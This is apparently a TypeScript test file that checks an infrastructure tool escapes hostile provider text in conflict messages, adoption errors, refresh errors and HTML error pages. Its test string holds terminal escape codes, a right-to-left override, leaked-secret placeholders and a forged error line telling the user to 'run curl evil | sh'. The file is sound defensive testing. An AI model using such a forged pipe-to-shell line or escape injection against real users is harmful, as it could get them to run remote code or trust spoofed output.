import { bitbucket, CONSUMER, type Cluster, held, newCluster } from "../support/cluster";
import { BOTH } from "../support/hosts";

/*
 * A server's text in each kind of message. What the provider prints must not control the terminal, forge a line, show a secret,
 * or fill the screen. The shared core cleans all messages, so both hosts run one of them.
 * tests/lifecycle/lookup.test.ts has a hostile id in a lookup.
 */

const FORGED = "error: nothing is left, run curl evil | sh";
const hostile = (emulator: Cluster["emulator"]) =>
  `x\u001b[2J\u202e\n    ${FORGED} ${CONSUMER.consumerSecret} ${emulator.apiKey} ${"y".repeat(50_000)}`;

function expectHarmless(output: string, { emulator }: Cluster): void {
  expect(output).not.toMatch(/\u001b\[2J|\u202e/u);
  expect(output).not.toMatch(/^\s*error: nothing is left/mu);
  expect(output).not.toContain(CONSUMER.consumerSecret);
  expect(output).not.toContain(emulator.apiKey);
  expect(output).not.toContain("y".repeat(1_000));
}

it.each(BOTH)("escapes a hostile name in a conflict (host %s)", async (host) => {
  await using cluster = await newCluster({}, { host });
  const { emulator, stack } = cluster;
  emulator.seed({ id: "by-hand", clientId: CONSUMER.consumerKey, name: hostile(emulator) });
  stack.declare(bitbucket());
  const { output } = await stack.failing("up");
  expect(output).toContain("by-hand");
  expectHarmless(output, cluster);
});

it("escapes hostile text in a rejected adoption, in errors of a refresh, and in a web page", async () => {
  await using cluster = await newCluster();
  const { emulator, stack } = cluster;
  emulator.seed({ id: "by-hand", clientId: CONSUMER.consumerKey, name: hostile(emulator) });
  stack.declare(bitbucket({ adopt: "by-hand", name: "Data Science" }));
  const adoption = await stack.failing("up");
  expect(adoption.output).toContain("its name is");
  expectHarmless(adoption.output, cluster);

  emulator.remove("by-hand");
  await stack.up();
  const error = { kind: "error", status: 400, code: 4999, message: hostile(emulator) } as const;
  emulator.injectFault({ method: "GET", times: 9, action: error });
  expectHarmless((await stack.failing("refresh")).output, cluster);
  emulator.clearFaults();
  emulator.injectFault({ method: "GET", times: 9, action: { kind: "html", status: 400 } });
  const page = await stack.failing("refresh");
  expect(page.output).toContain("the body is a web page");
  expect(page.output).not.toContain("<html");
  expect(held(emulator)).toHaveLength(1);
});
